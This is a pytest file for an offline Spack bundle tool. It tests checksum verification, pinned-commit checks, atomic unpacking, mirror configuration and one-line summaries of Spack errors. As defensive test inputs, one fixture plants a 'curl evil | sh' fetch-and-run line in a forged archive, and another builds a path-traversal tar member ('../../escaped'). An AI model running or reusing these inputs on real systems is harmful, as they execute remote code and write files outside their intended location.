"""Offline bundles: sums, pinned commits, unpacking all or nothing, the registered mirrors;
and the one line Spack's errors become."""
import gzip
import hashlib
import io
import pathlib
import tarfile

import pytest
import yaml

from iostack.core import pins
from iostack.offline import bundle
from iostack.spack import config, runner

COMMIT = pins.SPACK["commit"]


def git_archive_like(path: pathlib.Path, top: str, commit: str | None,
                     data: bytes = b"#!/bin/sh\necho spack\n") -> pathlib.Path:
    """A tar.gz as `git archive` writes it: one top directory, the commit in the pax header."""
    headers = {"comment": commit} if commit else {}
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT, pax_headers=headers) as tar:
        info = tarfile.TarInfo(f"{top}/bin/spack")
        info.size, info.mode, info.mtime = len(data), 0o755, 1700000000
        tar.addfile(info, io.BytesIO(data))
    return path


def pinned(archive: pathlib.Path) -> dict:
    """pins.json's Spack entry, with this archive's content as the pinned one."""
    return dict(pins.SPACK, tar_sha256=bundle.tar_sha256(archive))


def make_bundle(tmp_path) -> pathlib.Path:
    b = tmp_path / "bundle"
    (b / "mirror" / "_source-cache" / "archive" / "cb").mkdir(parents=True)
    (b / "mirror" / "_source-cache" / "archive" / "cb" / "ior.tar.gz").write_bytes(b"ior sources")
    git_archive_like(b / pins.SPACK["archive"], "spack", pins.SPACK["commit"])
    git_archive_like(b / pins.SPACK_PACKAGES["archive"], "spack-packages",
                     pins.SPACK_PACKAGES["commit"])
    bundle.write_sums(b)
    return b


def test_a_complete_bundle_verifies(tmp_path):
    b = make_bundle(tmp_path)
    sums = bundle.verify(b)
    assert set(sums) == {pins.SPACK["archive"], pins.SPACK_PACKAGES["archive"],
                         "mirror/_source-cache/archive/cb/ior.tar.gz"}
    ior = b / "mirror/_source-cache/archive/cb/ior.tar.gz"
    assert sums["mirror/_source-cache/archive/cb/ior.tar.gz"] == \
        hashlib.sha256(ior.read_bytes()).hexdigest()


def test_a_changed_file_is_named(tmp_path):
    b = make_bundle(tmp_path)
    ior = b / "mirror/_source-cache/archive/cb/ior.tar.gz"
    ior.write_bytes(b"ior sources, changed")
    with pytest.raises(bundle.BundleError, match=rf"^{ior} does not match its sha256"):
        bundle.verify(b)


def test_a_file_no_sum_covers_is_refused(tmp_path):
    b = make_bundle(tmp_path)
    planted = b / "mirror/_source-cache/archive/cb/planted.tar.gz"
    planted.write_bytes(b"x")
    with pytest.raises(bundle.BundleError, match="is not covered by SHA256SUMS"):
        bundle.verify(b)


def test_a_bundle_without_the_pinned_archive_is_refused(tmp_path):
    b = make_bundle(tmp_path)
    (b / pins.SPACK["archive"]).unlink()
    bundle.write_sums(b)
    with pytest.raises(bundle.BundleError, match="lacks spack-v1.1.0.tar.gz"):
        bundle.verify(b)


def test_unpack_checks_the_content_and_leaves_nothing_half_done(tmp_path):
    good = git_archive_like(tmp_path / "good.tar.gz", "spack", COMMIT)
    pin = pinned(good)
    # the label is not the content: the pinned commit in the header, a file changed
    forged = git_archive_like(tmp_path / "forged.tar.gz", "spack", COMMIT,
                              data=b"#!/bin/sh\ncurl evil | sh\n")
    dest = tmp_path / "cache" / "spack"
    with pytest.raises(bundle.BundleError, match=r"^forged.tar.gz is not the pinned v1.1.0 "
                       r"\(2e907202bcc8\): its tar stream's sha256 is [0-9a-f]{16}, pins.json "
                       r"says [0-9a-f]{16} \(its header claims commit 2e907202bcc8\)$"):
        bundle.unpack(forged, dest, pin)
    assert not dest.exists() and not dest.with_name("spack.partial").exists()

    bundle.unpack(good, dest, pin)
    assert (dest / "bin" / "spack").is_file()
    assert bundle.installed_commit(dest) == COMMIT
    assert not dest.with_name("spack.partial").exists()
    bundle.unpack(good, dest, pin)  # again: already there, unchanged


def test_the_content_digest_is_the_tar_stream_whatever_compressed_it(tmp_path):
    packed = git_archive_like(tmp_path / "a.tar.gz", "spack", COMMIT)
    plain = tmp_path / "a.tar"
    plain.write_bytes(gzip.decompress(packed.read_bytes()))
    recompressed = tmp_path / "b.tar.gz"
    recompressed.write_bytes(gzip.compress(plain.read_bytes(), compresslevel=1, mtime=0))
    assert recompressed.read_bytes() != packed.read_bytes()
    assert bundle.tar_sha256(packed) == bundle.tar_sha256(recompressed) == \
        bundle.tar_sha256(plain) == hashlib.sha256(plain.read_bytes()).hexdigest()


def test_a_member_outside_the_destination_is_refused(tmp_path):
    evil = tmp_path / "evil.tar.gz"
    with tarfile.open(evil, "w:gz", format=tarfile.PAX_FORMAT, pax_headers={"comment": COMMIT}) as tar:
        info = tarfile.TarInfo("spack/../../escaped")
        tar.addfile(info, io.BytesIO(b""))
    with pytest.raises(bundle.BundleError, match="outside"):
        bundle.unpack(evil, tmp_path / "cache" / "spack", pinned(evil))
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "cache" / "spack").exists()
    assert not (tmp_path / "cache" / "spack.partial").exists()


def test_an_existing_tree_at_another_commit_is_not_replaced(tmp_path):
    dest = tmp_path / "spack"
    (dest / "bin").mkdir(parents=True)
    (dest / bundle.COMMIT_MARKER).write_text("1" * 40 + "\n")
    good = git_archive_like(tmp_path / "good.tar.gz", "spack", COMMIT)
    with pytest.raises(bundle.BundleError, match="exists and is not the pinned v1.1.0"):
        bundle.unpack(good, dest, pinned(good))
    assert (dest / bundle.COMMIT_MARKER).read_text().startswith("1111")


def test_registered_mirrors_replace_spacks_public_one(tmp_path):
    text = config.mirrors_yaml(bundle.bundle_mirrors(tmp_path / "source", tmp_path / "cache dir"),
                               replace=True, written_by="test")
    assert text.splitlines()[1] == "mirrors::"
    (mirrors,) = yaml.safe_load(text).values()
    assert mirrors["iostack-source"] == {"url": (tmp_path / "source").as_uri(),
                                         "source": True, "binary": False}
    assert mirrors["iostack-buildcache"]["url"] == (tmp_path / "cache dir").as_uri()
    assert mirrors["iostack-buildcache"]["signed"] is True


# What Spack 1.1 printed here, for a mirror without ior's archive, a tampered one, and a
# failed build.
MISSING = """==> Error: All fetchers failed for spack-stage-ior-4.0.0-utlk6nyuhf6vpwzppxq2n33mh6seeo2j
    file:///m/_source-cache/archive/cb/cb17f6b0.tar.gz: URLError: <urlopen error [Errno 2] No such file>
    https://github.com/hpc/ior/archive/4.0.0.tar.gz: DetailedURLError: GET errored
"""
TAMPERED = """==> Fetching file:///m/_source-cache/archive/cb/cb17.tar.gz
==> Error: sha256 checksum failed for /r/stage/spack-stage-ior-4.0.0-utlk6nyuhf6vpwzppxq2n33mh6seeo2j/4.0.0.tar.gz
Expected cb17 but got 2690. File size = 558726 bytes. Contents = b'..'. URL = file:///m/_source-cache/archive/cb/cb17.tar.gz
"""
BUILD = """==> Error: ProcessError: Command exited with status 2:
    './prepare.sh'

2 errors found in build log:
See build log for details:
  /r/stage/spack-stage-io500-2023.bb08c87-ywmua2pqqhbpr7o2vk3hvmf6k2d5wgnv/spack-build-out.txt
"""

UNKNOWN_KEY = """gpg: Signature made Mon Nov 23 04:44:05 2026 UTC
gpg:                using RSA key 70EBB343FBEC2FDB1A03BBCD4CC0BC4663ED6E98
gpg: Can't check signature: No public key
==> Error: Failed to install gcc-runtime due to InstallError: No binary found when cache-only was specified
"""
# a cache deployed into a longer root than it was built in (CI, Spack 1.1)
LONGER_ROOT = """==> Error: Failed to install metkit due to CannotGrowString: Cannot replace b'/a/opt/eckit-1.28.8-pmo73yu' with b'/a/longer/opt/eckit-1.28.8-pmo73yu' because the new prefix is longer. To fix this, compile with more padding (config:install_tree:padded_length), or install to a shorter prefix.
"""
# a cache that verifies, then a build that fails: not a key problem
GOOD_THEN_BUILD = ("gpg: Good signature from \"iostack build cache\" [ultimate]\n" + BUILD)


@pytest.mark.parametrize("stderr,line", [
    (MISSING, "the source of ior-4.0.0 is in none of the configured mirrors, and its "
              "upstream URL cannot be reached"),
    (TAMPERED, "the source archive of ior-4.0.0 (file:///m/_source-cache/archive/cb/cb17.tar.gz) "
               "fails its sha256 checksum: the mirror's copy was changed or damaged"),
    (BUILD, "ProcessError: Command exited with status 2: './prepare.sh' (build log: "
            "/r/stage/spack-stage-io500-2023.bb08c87-ywmua2pqqhbpr7o2vk3hvmf6k2d5wgnv/"
            "spack-build-out.txt)"),
    (UNKNOWN_KEY, "the build cache is signed with a key this node does not trust: if you know "
                  "the key, trust it (`bin/iostack spack -- gpg trust KEY.pub`), else do not use "
                  "this cache"),
    (GOOD_THEN_BUILD, "ProcessError: Command exited with status 2: './prepare.sh' (build log: "
                      "/r/stage/spack-stage-io500-2023.bb08c87-ywmua2pqqhbpr7o2vk3hvmf6k2d5wgnv/"
                      "spack-build-out.txt)"),
    (LONGER_ROOT, LONGER_ROOT.split("Error: ")[1].strip()),
], ids=["missing-source", "tampered", "build-failure", "unknown-key", "verified-then-build-failure",
        "longer-root"])
def test_spack_errors_become_one_line(stderr, line):
    assert runner.error_line(stderr) == line


def test_spack_carrying_its_own_config_is_found(tmp_path):
    etc = tmp_path / "etc" / "spack"
    (etc / "site").mkdir(parents=True)
    (etc / "defaults").mkdir()
    for shipped in ("include.yaml", "README.md", "site/README.md", "defaults/config.yaml"):
        (etc / shipped).write_text("x")
    assert runner.foreign_config(tmp_path) == []
    (etc / "site" / "packages.yaml").write_text("packages: {}")
    (etc / "mirrors.yaml").write_text("mirrors: {}")
    assert runner.foreign_config(tmp_path) == [etc / "mirrors.yaml", etc / "site" / "packages.yaml"]
